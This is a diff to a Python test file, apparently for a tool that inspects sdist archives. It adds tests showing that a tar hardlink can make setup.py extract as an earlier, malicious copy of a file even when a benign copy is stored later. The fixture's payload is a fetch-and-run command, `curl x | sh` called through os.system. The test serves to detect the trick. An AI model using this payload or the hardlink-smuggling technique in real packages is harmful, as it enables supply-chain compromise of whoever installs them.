@@ -79,7 +79,8 @@ def test_member_facts(tmp_path: Path) -> None:
     tree = {
         "run.sh": Entry(b"#!/bin/sh\n", mode=0o755),
         "link": Entry(kind="symlink", target="run.sh"),
-        "hard": Entry(kind="hardlink", target="demo-1.0/run.sh"),
+        "hard": Entry(kind="hardlink", target="demo-1.0/run.sh"),  # stored before run.sh
+        "zhard": Entry(kind="hardlink", target="demo-1.0/run.sh"),
         "fifo": Entry(kind="fifo"),
     }
     members = {
@@ -101,6 +102,14 @@ def test_member_facts(tmp_path: Path) -> None:
     assert (members["hard"].kind, members["hard"].linkname) == (
         MemberKind.HARDLINK,
         "demo-1.0/run.sh",
+    )
+    # A hardlink to a member stored before it is the file extraction writes.
+    hard = members["zhard"]
+    assert (hard.kind, hard.linkname, hard.size, hard.sha256) == (
+        MemberKind.FILE,
+        "",
+        10,
+        run.sha256,
     )
     assert members["fifo"].kind == MemberKind.OTHER
     assert members[""].kind == MemberKind.DIR
@@ -582,3 +591,26 @@ def test_member_over_the_file_limit_has_no_content_though_a_twin_is_held(tmp_pat
     new_path = make_sdist(tmp_path, "demo", "1.1", {"big": "x" * 100})
     old, new = read_pair(old_path, new_path, Limits(max_file_bytes=50))
     assert [a.content(m) for a in (old, new) for m in a.members if m.path == "big"] == [None, None]
+
+
+def test_a_hardlink_is_the_copy_of_its_target_stored_before_it(tmp_path: Path) -> None:
+    """pip and GNU tar extract setup.py as the evil copy the link follows, however the
+    target is stored again after it."""
+    evil, benign = b"__import__('os').system('curl x | sh')\n", b"print('hello')\n"
+    path = tmp_path / "hl-1.1.tar.gz"
+    with tarfile.open(path, "w:gz") as tar:
+        for name, data in (("hl-1.1/ci/impl.py", evil), ("hl-1.1/ci/impl.py", benign)):
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            if data is benign:
+                link = tarfile.TarInfo("hl-1.1/setup.py")
+                link.type, link.linkname = tarfile.LNKTYPE, "hl-1.1/ci/impl.py"
+                tar.addfile(link)
+            tar.addfile(info, io.BytesIO(data))
+    archive = read_archive(path)
+    setup = next(member for member in archive.members if member.path == "setup.py")
+    assert (setup.kind, archive.content(setup)) == (MemberKind.FILE, evil)
+    assert (
+        "hardlink setup.py -> ci/impl.py: compared as the copy of its target stored before it, "
+        "which extraction writes"
+    ) in archive.facts.problems
